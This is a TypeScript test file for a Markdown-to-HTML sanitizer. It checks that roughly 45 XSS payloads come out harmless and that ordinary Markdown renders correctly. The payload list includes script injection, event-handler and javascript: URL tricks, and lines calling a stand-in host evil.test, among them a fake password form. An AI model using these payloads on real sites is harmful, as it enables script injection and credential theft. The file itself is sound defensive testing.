import { expect, test } from 'vitest';
import { htmlOfMarkdown } from './html-of-markdown.ts';

/** Markdown by a malicious former admin; none of it may run or contact another server. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel.gif">',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](/content-images/../../api/account/me)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="//evil.test">',
  '<style>@import "//evil.test/x.css"; body { display: none }</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<p style="background:url(//evil.test/x)">x</p>',
  '<form action="//evil.test"><input name=password><button>Log in</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<h2 id="root" onclick="alert(1)">x</h2>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '`<script>`<script>alert(1)</script>',
  '```html"onmouseover="alert(1)\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<a href="https://a.test" onclick="alert(1)" target="_blank" style="position:fixed">x</a>',
  '[x](<https://a.test" onmouseover="alert(1)>)',
  '[x](//evil.test)',
  '<a href="/\\evil.test">x</a>',
  '<a href="/&#9;/evil.test">x</a>',
  '<a href="mailto:a@b.test?bcc=everybody@example.org">x</a>',
  '[x](/\\evil.test)',
] as const;

const TAG = /<\/?([a-z0-9]+)((?:\s[^>]*)?)>/gi;
const KNOWN =
  /^(?:h[234]|p|ul|ol|li|blockquote|pre|hr|br|table|thead|tbody|tr|th|td|a|img|code|em|strong|del|sub|sup)$/;
const ATTRIBUTE =
  /^(?:href="(?:https?:\/\/[^"\s]+|\/(?!\/)[^"\s:\\]*|[\w-][^"\s:\\]*|#section-[a-z0-9-]*)"|rel="noopener noreferrer nofollow"|id="section-[a-z0-9-]+"|src="\/content-images\/[0-9a-f-]{36}"|alt="[^"]*"|role="presentation"|loading="lazy"|start="\d+"|align="(?:left|center|right)"|\/)$/;

test.each(ATTACKS)('%s becomes harmless', (attack) => {
  const html = htmlOfMarkdown(attack);
  for (const [, name = '', attributes = ''] of html.matchAll(TAG)) {
    expect(name, html).toMatch(KNOWN);
    for (const [attribute] of attributes.trim().matchAll(/\/|[\w:-]+(?:="[^"]*")?/g))
      expect(attribute, html).toMatch(ATTRIBUTE);
  }
  // No other tags remain.
  expect(html.replaceAll(TAG, '')).not.toMatch(/<[a-z!/?]/i);
});

const PICTURE = '/content-images/0197a3f0-0000-7000-8000-000000000001';

test('Ada’s Markdown renders as intended', () => {
  const html = htmlOfMarkdown(
    `# Sleep\n\nA **good** *night* ~~no~~ [helps](/faq), see [a study](https://doi.org/10.1/x) or [write](mailto:ada@example.org).\n\n## Sleep\n\n- one\n- two\n\n3. three\n\n> quoted\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n![A bed](${PICTURE})\n\n[up](#sleep)\n\n\`x < y\``,
  );
  expect(html).toContain('<h2 id="section-sleep">Sleep</h2>');
  expect(html).toContain('<h2 id="section-sleep-2">Sleep</h2>');
  expect(html).toContain('<strong>good</strong> <em>night</em> <del>no</del> <a href="/faq">helps</a>');
  expect(html).toContain('<a href="https://doi.org/10.1/x" rel="noopener noreferrer nofollow">a study</a>');
  expect(html).toContain('<a href="mailto:ada@example.org">write</a>');
  expect(html).toContain('<ol start="3">');
  expect(html).toContain('<th align="center">a</th>');
  expect(html).toContain(`<img src="${PICTURE}" alt="A bed" loading="lazy" />`);
  expect(html).toContain('<a href="#section-sleep">up</a>');
  expect(html).toContain('<code>x &lt; y</code>');
});

test('a decorative picture is marked as such, and placeholders are never read aloud', () => {
  const shown = (alt: string): string => htmlOfMarkdown(`![${alt}](${PICTURE})`);
  expect(shown('Decorative')).toContain(`alt="" role="presentation" loading`);
  expect(shown('Describe the picture')).toContain('alt="" loading');
  expect(shown('')).toContain('alt="" loading');
});
